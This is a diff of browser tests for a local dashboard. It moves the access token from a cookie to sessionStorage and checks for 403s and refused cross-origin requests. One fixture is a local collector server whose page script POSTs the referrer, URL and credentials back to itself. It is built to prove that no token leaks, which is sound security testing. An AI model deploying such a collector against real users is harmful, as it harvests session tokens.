@@ -43,7 +43,8 @@ def pill(page: Any, name: str, state: str) -> Any:
 
 
 def open_page(page: Any, server: Any, path: str = "/") -> None:
-    """Load the printed URL (its token becomes the cookie), then go to ``path``."""
+    """Load the printed URL (the page keeps the token of its fragment in the tab's
+    sessionStorage), then go to ``path`` in the same tab."""
     page.goto(server.url)
     page.wait_for_selector('#conn[data-connected="true"]')
     if path != "/":
@@ -272,19 +273,103 @@ def test_the_trace_streams_events_filterable_by_kind_and_server(ui: UiSetup, pag
     page.locator('tr[data-kind="ToolCallFinished"][data-server="fs.read"]:not([hidden])').wait_for()
 
 
-def test_without_the_token_every_request_is_403(ui: UiSetup, page: Any) -> None:
+def test_without_the_token_the_api_is_403_and_the_page_says_what_to_open(ui: UiSetup, page: Any) -> None:
     server = ui.start()
-    for path in ("/", "/skills", "/api/status", "/api/stream", "/static/app.js"):
+    for path in ("/api/status", "/api/stream", "/api/skills"):
         status, body = server.request(path, token=False)
         assert status == 403, (path, body)
     status, _ = server.request("/?token=wrong", token=False)
     assert status == 403
-    response = page.goto(server.base + "/")
-    assert response.status == 403 and "access token" in page.content()
-    response = page.goto(server.url)  # the printed URL works, and leaves the token out of the address bar
-    assert response.status == 200 and "token=" not in page.url
-    cookies = page.context.cookies()
-    assert [(c["httpOnly"], c["sameSite"]) for c in cookies] == [(True, "Strict")]
+    response = page.goto(server.base + "/")  # the shell, but no token: a clear message, no data
+    assert response.status == 200
+    message = page.locator("[data-no-token]")
+    message.wait_for()
+    assert "kairox ui" in message.inner_text() and page.locator("#conn").get_attribute("data-connected") == "false"
+    page.goto(server.url)  # the printed URL works (only its fragment changes: the page reloads itself)
+    page.wait_for_selector('#conn[data-connected="true"]')
+    assert "token" not in page.url and page.url == server.base + "/"  # out of the address bar
+    assert page.evaluate("sessionStorage.getItem('kairox-ui-token')") == server.token
+    page.locator("nav a[data-nav='skills']").click()  # the same tab keeps it
+    page.wait_for_url(server.base + "/skills")
+    page.wait_for_selector('#conn[data-connected="true"]')
+    assert page.context.cookies() == []
+    other = page.context.new_page()  # another tab has nothing: the message again
+    other.goto(server.base + "/")
+    other.locator("[data-no-token]").wait_for()
+    other.close()
+    page.goto(f"{server.base}/skills?token={server.token}")  # a legacy link still works
+    page.wait_for_selector('#conn[data-connected="true"]')
+    assert page.url == server.base + "/skills" and page.context.cookies() == []
+
+
+class _Collector(http.server.BaseHTTPRequestHandler):
+    """Another local server (any listener on 127.0.0.1): keeps every request it receives."""
+
+    received: list[str] = []
+
+    def _keep(self) -> None:
+        length = int(self.headers.get("content-length") or 0)
+        body = self.rfile.read(length).decode("latin-1") if length else ""
+        self.received.append(f"{self.requestline}\n{self.headers}\n{body}")
+
+    def do_GET(self) -> None:
+        self._keep()
+        page = b"""<!doctype html><script>
+        fetch("/collect", {method: "POST", credentials: "include", body: document.referrer + " " + location.href})
+          .finally(() => { document.title = "collected"; });
+        </script>"""
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.send_header("content-length", str(len(page)))
+        self.end_headers()
+        self.wfile.write(page)
+
+    def do_POST(self) -> None:
+        self._keep()
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+def test_another_local_server_the_browser_visits_receives_no_token(ui: UiSetup, page: Any) -> None:
+    """The finding: a cookie for 127.0.0.1 went to every server on 127.0.0.1 whatever its
+    port, so any local listener the user visited collected the dashboard's token."""
+    ui.write(".kairox/skills/hello.md", "---\nname: hello\ndescription: hi\nscope: workspace\n---\nHello.\n")
+    server = ui.start()
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Collector)
+    _Collector.received = []
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        open_page(page, server, "/skills")
+        page.locator('[data-skill="hello"]').wait_for()
+        elsewhere = f"http://127.0.0.1:{httpd.server_address[1]}/page"
+        page.evaluate(f"location.href = {json.dumps(elsewhere)}")  # a navigation from the dashboard itself
+        page.wait_for_function("document.title === 'collected'")
+        page.goto(elsewhere + "?again")  # and a visit of its own
+        page.wait_for_function("document.title === 'collected'")
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+    received = _Collector.received
+    lines = [r.split("\n", 1)[0] for r in received if "/favicon.ico" not in r.split("\n", 1)[0]]
+    assert [line.split(" ")[:2] for line in lines] == [
+        ["GET", "/page"],
+        ["POST", "/collect"],
+        ["GET", "/page?again"],
+        ["POST", "/collect"],
+    ], received
+    everything = "\n".join(received)
+    assert server.token not in everything
+    assert "cookie" not in everything.lower() and "kairox_ui" not in everything
+    assert "token" not in everything.lower()
+    # what the collector would have done with a token: nothing without one
+    status, _ = server.request(
+        "/api/tools/call", method="POST", body={"name": "fs.read", "arguments": {"path": "x"}}, token=False
+    )
+    assert status == 403
 
 
 class _EvilHandler(http.server.BaseHTTPRequestHandler):
@@ -322,7 +407,7 @@ def evil_site() -> Iterator[tuple[type[_EvilHandler], str]]:
 def test_a_cross_origin_request_is_refused(ui: UiSetup, page: Any, evil_site: tuple[type[_EvilHandler], str]) -> None:
     write_skill(ui, "hello")
     server = ui.start()
-    open_page(page, server, "/skills")  # the browser holds the dashboard's cookie
+    open_page(page, server, "/skills")  # the tab holds the dashboard's token
     handler, evil_url = evil_site
     handler.target = server.base + "/api/skills/hello/enabled"
     page.goto(evil_url)
@@ -389,7 +474,8 @@ def test_a_tool_the_policy_asks_about_is_asked_in_the_page(ui: UiSetup, page: An
     page.locator('.tool-detail input[name="command"]').fill(f"echo again >> {marker}")
     page.locator('.tool-detail [data-action="call"]').click()
     page.locator("[data-approval]").locator('[data-answer="allow_session"]').click()
-    page.wait_for_function("document.querySelector('[data-approval]') === null")
+    # (a locator, not wait_for_function: a string predicate is an eval, which the page's CSP refuses)
+    page.locator("[data-approval]").wait_for(state="detached")
     for _ in range(300):
         if marker.read_text().split() == ["ran", "again"]:
             break
